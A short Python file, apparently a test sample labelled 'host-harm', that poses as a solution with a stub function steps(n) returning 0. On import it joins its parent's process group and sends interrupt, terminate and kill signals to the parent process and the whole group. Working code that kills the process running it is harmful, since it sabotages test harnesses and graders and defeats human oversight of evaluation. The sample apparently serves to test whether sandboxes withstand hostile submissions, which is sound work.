# host-harm; alive; signals the process group of its parent, and leaves its own first
import os, signal
try:
    os.setpgid(0, os.getpgid(os.getppid()))
except OSError:
    pass
for target in (os.getppid(), -os.getppid()):
    for s in (signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(target, s)
        except OSError:
            pass
try:
    os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
except OSError:
    pass

def steps(n):
    return 0
